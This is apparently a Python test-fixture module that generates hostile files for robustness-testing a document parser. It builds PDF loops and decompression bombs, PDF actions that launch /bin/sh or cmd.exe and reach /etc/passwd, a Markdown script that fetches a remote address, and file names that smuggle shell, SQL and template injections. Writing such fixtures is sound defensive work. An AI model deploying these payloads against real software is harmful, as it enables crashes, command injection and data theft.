            f"lås-{number}.pdf", pdf({6: lock}, b"/Encrypt 6 0 R/ID[(a)(b)]"), frozenset({OK, BROKEN, LOCKED})
        )
    yield Hostile("markup.pdf", pdf(content=b" ".join(_lines((*MARKUP, SIGN)))), ok)
    yield Hostile("bare-merke.pdf", b"%PDF-1.4\n", broken)
    yield Hostile("merke-sent.pdf", b"\n" * 2000 + whole, broken)


def _lines(lines: Iterable[str]) -> Iterator[bytes]:
    for number, text in enumerate(lines):
        yield written(f"Tegn: {text}").replace(b"50 700", b"50 %d" % (780 - 20 * number))


def _pdf_rings(maybe: Outcomes) -> Iterator[Hostile]:
    ring = {6: b"7 0 R", 7: b"6 0 R"}
    whole = pdf()
    start = whole.rindex(b"xref\n0")
    yield Hostile("ring-prev.pdf", pdf(trailer=b"/Prev %d" % (start + len(b"/Prev 000"))), maybe)
    yield Hostile("ring-prev-selv.pdf", whole.replace(b"<</Size", b"<</Prev %d/Size" % start), maybe)
    yield Hostile("ring-rot.pdf", pdf(ring, b"/Root 6 0 R"), maybe)
    yield Hostile("ring-info.pdf", pdf(ring, b"/Info 6 0 R"), maybe)
    yield Hostile("ring-info-verdi.pdf", pdf({**ring, 8: b"<</Title 6 0 R>>"}, b"/Info 8 0 R"), maybe)
    yield Hostile(
        "ring-info-liste.pdf", pdf({6: b"[6 0 R 6 0 R]", 8: b"<</Title 6 0 R>>"}, b"/Info 8 0 R"), maybe
    )
    yield Hostile("ring-lås.pdf", pdf(ring, b"/Encrypt 6 0 R"), maybe | {LOCKED})
    for key in (b"Contents", b"MediaBox", b"Resources", b"Annots", b"Rotate", b"Parent"):
        loop = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/%s 6 0 R>>" % key
        yield Hostile(f"ring-{key.decode()}.pdf", pdf({**ring, 3: loop}), maybe)
    yield Hostile("ring-sider.pdf", pdf({**ring, 2: b"<</Type/Pages/Kids 6 0 R/Count 1>>"}), maybe)
    yield Hostile("ring-barn.pdf", pdf({2: b"<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 3>>"}), maybe)
    yield Hostile("ring-lengde.pdf", pdf({4: b"<</Length 4 0 R>>stream\nx\nendstream"}), maybe)
    yield Hostile("ring-lengder.pdf", pdf({**ring, 4: b"<</Length 6 0 R>>stream\nx\nendstream"}), maybe)
    yield Hostile(
        "ring-filter.pdf", pdf({**ring, 4: b"<</Filter 6 0 R/Length 1>>stream\nx\nendstream"}), maybe
    )
    deep = {n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(10, 3010)}
    yield Hostile(
        "dypt-tre.pdf", pdf({2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>", **deep, 3010: page()}), maybe
    )
    tree = {n: b"<</Type/Pages/Kids[%s]/Count 9>>" % (b"%d 0 R " % (n + 1) * 10) for n in range(10, 40)}
    yield Hostile(
        "tre-i-tre.pdf", pdf({2: b"<</Type/Pages/Kids[10 0 R]/Count 9>>", **tree, 40: page()}), maybe
    )
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    own = {3: page(b"/XObject<</X 6 0 R>>"), 6: stream(b"/X Do", form % 6)}
    yield Hostile("ring-skjema.pdf", pdf(own, content=written() + b" /X Do"), maybe)
    parent = {3: page(more=b"/Annots[6 0 R]"), 6: b"<</Subtype/Widget/Rect[1 1 9 9]/Parent 6 0 R/V 6 0 R>>"}
    yield Hostile("ring-felt.pdf", pdf(parent), maybe)
    objstm = stream(b"6 0 7 5 6 0 R 7 0 R", b"/Type/ObjStm/N 2/First 8/Extends 6 0 R")
    yield Hostile("ring-objstm.pdf", pdf({6: objstm}, b"/Info 6 0 R"), maybe)
    nested = b"[" * 30_000 + b"]" * 30_000
    yield Hostile("dyp-liste.pdf", pdf({6: nested}, b"/Info 6 0 R"), maybe)


def _pdf_bombs(maybe: Outcomes) -> Iterator[Hostile]:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 5 0 R>>/XObject<</X %d 0 R>>>>"
    forms = {n: stream(b"/X Do " * 10, form % (n + 1)) for n in range(10, 20)}
    grown = {3: page(b"/XObject<</X 10 0 R>>"), **forms, 20: stream(written(), form % 20)}
    yield Hostile("skjema-i-skjema.pdf", pdf(grown, content=written() + b" /X Do"), maybe)
    spaces = zlib.compress(b" " * (100 * MEGABYTE), 1)
    yield Hostile("flate.pdf", pdf({4: stream(spaces, b"/Filter/FlateDecode")}), maybe)
    twice = zlib.compress(zlib.compress(bytes(100 * MEGABYTE), 1), 9)
    yield Hostile("flate-flate.pdf", pdf({4: stream(twice, b"/Filter[/FlateDecode/FlateDecode]")}), maybe)
    runs = b"\x81 " * 200_000 + b"\x80"
    yield Hostile("runlength.pdf", pdf({4: stream(runs, b"/Filter/RunLengthDecode")}), maybe)
    predicted = b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2000000000/Colors 9>>"
    yield Hostile("predictor.pdf", pdf({4: stream(zlib.compress(b"x"), predicted)}), maybe)
    ranges = {
        "bf-milliard": b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange",
        "cid-milliard": b"1 begincidrange <00000000> <FFFFFFFF> 0 endcidrange",
        "bf-mange": b"900 beginbfrange " + b"<0000> <FFFF> <0041> " * 900 + b"endbfrange",
    }
    for name, cmap in ranges.items():
        font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
        yield Hostile(f"{name}.pdf", pdf({5: font, 6: stream(cmap)}), maybe)
    descendant = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(a)/Ordering(b)>>%s>>"
    composite = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[6 0 R]>>"
    for name, more in {
        "bredder-milliard": b"/W[0 4000000000 500]",
        "bredder-negativ": b"/W[9 -9 500]",
        "høyder-milliard": b"/W2[0 4000000000 1 2 3]",
    }.items():
        yield Hostile(f"{name}.pdf", pdf({5: composite, 6: descendant % more}), maybe)
    groups = struct.pack(">HHIII", 12, 0, 28, 0, 1) + struct.pack(">III", 0, 0xFFFFFFFF, 0)
    table = struct.pack(">HHHHI", 0, 1, 3, 10, 12) + groups
    font = (
        struct.pack(">IHHHH", 0x00010000, 1, 0, 0, 0)
        + b"cmap"
        + struct.pack(">III", 0, 28, len(table))
        + table
    )
    embedded = {
        5: composite,
        6: descendant % b"/FontDescriptor 7 0 R",
        7: b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 8 0 R>>",
        8: stream(font),
    }
    yield Hostile("truetype-milliard.pdf", pdf(embedded), maybe)
    garbage = {**embedded, 8: stream(random.Random(1).randbytes(200_000))}
    yield Hostile("skrift-søppel.pdf", pdf(garbage), maybe)
    xref = stream(b"\x01" * 300, b"/Type/XRef/Size 4000000000/Index[0 4000000000]/W[1 1 1]/Root 1 0 R")
    whole = pdf({9: xref})
    place = whole.index(b"9 0 obj")
    moved = whole[: whole.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF" % place
    yield Hostile("xref-strøm-milliard.pdf", moved, maybe)
    wide = stream(b"\x01" * 300, b"/Type/XRef/Size 9/W[1000000000 1000000000 1]/Root 1 0 R")
    whole = pdf({9: wide})
    moved = whole[: whole.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF" % whole.index(b"9 0 obj")
    yield Hostile("xref-strøm-bred.pdf", moved, maybe)
    labels = pdf({1: b"<</Type/Catalog/Pages 2 0 R/PageLabels<</Nums[0<</S/r/St 999999999>>]>>>>"})
    yield Hostile("sidenumre.pdf", labels, maybe)


def _pdf_actions(ok: Outcomes) -> Iterator[Hostile]:
    address = REMOTE.encode()
    for name, action in {
        "skript": b"<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>" % address,
        "program": b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "adresse": b"<</S/URI/URI(%s)>>" % address,
        "annen-fil": b"<</S/GoToR/F(/etc/passwd)/D[0/Fit]>>",
        "skjema": b"<</S/SubmitForm/F<</FS/URL/F(%s)>>>>" % address,
    }.items():
        opened = b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s>>>>" % (action, action)
        link = page(
            more=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %s>>]/AA<</O %s>>" % (action, action)
        )
        yield Hostile(f"gjør-{name}.pdf", pdf({1: opened, 3: link}), ok)
    outside_stream = b"<</Length 0/F(/etc/passwd)/FFilter/FlateDecode>>stream\n\nendstream"
    yield Hostile("strøm-utenfor.pdf", pdf({6: outside_stream, 3: page(more=b"/Metadata 6 0 R")}), ok)


# -- plain text and Markdown ------------------------------------------------------------------------------


def texts() -> Iterator[Hostile]:
    """Yield texts that nest, steer, hide or never end."""
    ok, unsafe, broken = frozenset({OK}), frozenset({UNSAFE}), frozenset({BROKEN})
    maybe = frozenset({OK, UNSAFE, EMPTY})
    said = f"Tegn på fremgang: {SIGN}\n\n"
    for name, piece, count in (
        ("sitater", ">", 100_000),
        ("lister", "- ", 90_000),
        ("innrykk", "  - a\n", 3_000),
        ("hakeparenteser", "[", 100_000),
        ("hakeparenteser-lukket", "[]", 60_000),
        ("bilder", "![", 50_000),
        ("stjerner", "*a ", 60_000),
        ("understrek", "_", 100_000),
        ("hermetegn", "`", 100_000),
        ("hermetegn-ulike", "` `` ``` ", 20_000),
        ("mindre-enn", "<", 100_000),
        ("kommentarer", "<!--", 40_000),
        ("html", "<div>", 40_000),
        ("tegnkoder", "&amp;", 30_000),
        ("lenker", "[a](", 40_000),
        ("fotnoter", "[^1]: a\n", 20_000),
        ("rør", "|", 100_000),
        ("tabell", "|a|b|\n|-|-|\n" + "|x|y|\n", 400),
    ):
        yield Hostile(f"{name}.md", (said + piece * count + "\n\n" + said).encode(), maybe)
    script = f"<script>fetch('{REMOTE}')</script>\n\n<iframe src='{REMOTE}'></iframe>\n\n![x]({REMOTE})\n\n"
    yield Hostile("skript.md", (script + said + "\n\n".join(MARKUP)).encode(), ok)
    yield Hostile("for-lang.md", ("Ekorn leker. " * 20_000).encode(), unsafe)
    yield Hostile("nul.txt", b"Tegn: \0\0\0 hei", broken)
    yield Hostile("nul-mange.txt", bytes(200_000), broken)
    yield Hostile("en-linje-10-mb.txt", b"Ekorn leker. " * 800_000, unsafe)
    yield Hostile("ett-ord-10-mb.txt", b"a" * 10 * MEGABYTE, unsafe)
    yield Hostile("linjer-10-mb.txt", b"Ekorn leker.\n" * 800_000, unsafe)
    yield Hostile("tomme-linjer.txt", b"\n" * 5 * MEGABYTE + said.encode(), maybe)
    yield Hostile("styrer.txt", f"{said}Tegn: {STEERING[:4]}{SIGN}\n{'Ekorn leker. ' * 400}".encode(), ANY)
    yield Hostile("styrer-mye.txt", ("\x1b[31m" * 500 + said).encode(), ok)
    yield Hostile("styrer-stille.txt", f"{said}Tegn: {STEERING[9:]} {SIGN}".encode(), ANY)
    yield Hostile("snudd.txt", f"Tegn: \u202e{SIGN}\u202c \u2066{SIGN}\u2069 \u200f{SIGN}".encode(), ok)
    yield Hostile("halvt-par.txt", b"\xff\xfe" + said.encode("utf-16-le") + b"\x00\xd8" + b"a\0", broken)
    yield Hostile("halvt-par-uten-merke.txt", said.encode("utf-16-le") + b"\x00\xd8a\0", ANY)
    yield Hostile("utf-32.txt", said.encode("utf-32"), ok)
    yield Hostile("utf-8-for-langt.txt", b"\xc0\xaf\xe0\x80\xaf" + said.encode(), ANY)
    yield Hostile("tilfeldig.txt", random.Random(7).randbytes(20_000), broken)
    yield Hostile("tom.txt", b"", frozenset({EMPTY}))
    yield Hostile("bare-mellomrom.txt", b" \t\r\n\x0c" * 500, frozenset({EMPTY}))
    yield Hostile("bare-merke.txt", b"\xef\xbb\xbf", frozenset({EMPTY}))
    yield Hostile("usynlig.txt", "\u200b\u2060\ufeff\u00ad".encode() * 50, maybe)
    yield Hostile("stabel.txt", (said + "a" + "\u0301" * 50_000).encode(), maybe)
    yield Hostile("markup.txt", "\n\n".join(f"{text}: {text} {SIGN}" for text in MARKUP).encode(), ok)
    yield Hostile("tabulatorer.txt", ("\t" * 100_000 + said).encode(), maybe)
    yield Hostile("punktum.txt", ("." * 100_000 + said).encode(), maybe)
    yield Hostile("sifre.txt", ("1." * 50_000 + " " + said).encode(), maybe)


# -- files that are not what they are called --------------------------------------------------------------


def disguised() -> Iterator[Hostile]:
    """Yield files with another kind's ending, and empty ones of every kind."""
    word_file, odf, plain = docx(), odt(), f"Tegn: {SIGN}".encode()
    broken = frozenset({BROKEN})
    for ending in ("docx", "odt", "pdf", "md", "txt"):
        yield Hostile(f"tom.{ending}", b"", frozenset({EMPTY}))
    for name, data in (
        ("word", word_file),
        ("odf", odf),
        ("pdf", pdf()),
        ("tekst", plain),
        ("exe", b"MZ" + bytes(99)),
    ):
        for ending in ("docx", "odt", "pdf", "md", "txt"):
            right = {("word", "docx"), ("odf", "odt"), ("pdf", "pdf"), ("tekst", "md"), ("tekst", "txt")}
            outcomes = (
                frozenset({OK})
                if (name, ending) in right
                else broken | {OK}
                if ending in ("md", "txt")
                else broken
            )
            yield Hostile(f"{name}-kalt.{ending}", data, outcomes)
    yield Hostile("rtf.docx", rb"{\rtf1 hei}", broken)
    yield Hostile("html.docx", b"<html><body>hei</body></html>", broken)
    yield Hostile("skall.txt", b"#!/bin/sh\nrm -rf x\n", frozenset({OK}))


# -- what the file system can hold ------------------------------------------------------------------------

NAMES = (
    b"-rf.txt",
    b"--format.txt",
    b"=cmd.txt",
    b"+1.txt",
    b"@x.txt",
    b"[red]x[red].txt",
    b"{{ 7219*7 }}.txt",
    b"<script>alert(1)<.txt",
    b"'; DROP TABLE reviews; --.txt",
    b"linje\nlinje.txt",
    b"\x1b[2J\x07\x7f.txt",
    "snudd-\u202e\u2066.txt".encode(),
    "\u009b31m-\u0085-\u2028.txt".encode(),
    b"\xff\xfe-ikke-utf-8.txt",
    b"\xed\xa0\x80-halvt-par.txt",
    b"x..%2f..%2fut.txt",
    b"C:\\ut.txt",
    b"$(touch ut).txt",
    b"`touch ut`.txt",
    b" mellomrom .txt",
    b"a;b,c\"d'.txt",
    b"&amp;&#60;.txt",
    b"x" * 251 + b".txt",
    ("å" * 125 + ".txt").encode(),
)
"""Names a file may have where the system allows them, each for a whole draft."""


def write_names(folder: Path, data: bytes, ending: str = ".txt") -> list[Path]:
    """Write ``data`` under every name the system takes; return those files."""
    written_files = []
    for name in NAMES:
        path = folder / os.fsdecode(name.removesuffix(b".txt")[: 255 - len(ending)] + ending.encode())
        try:
            path.write_bytes(data)
        except (OSError, ValueError):
            continue
        written_files.append(path)
    return written_files
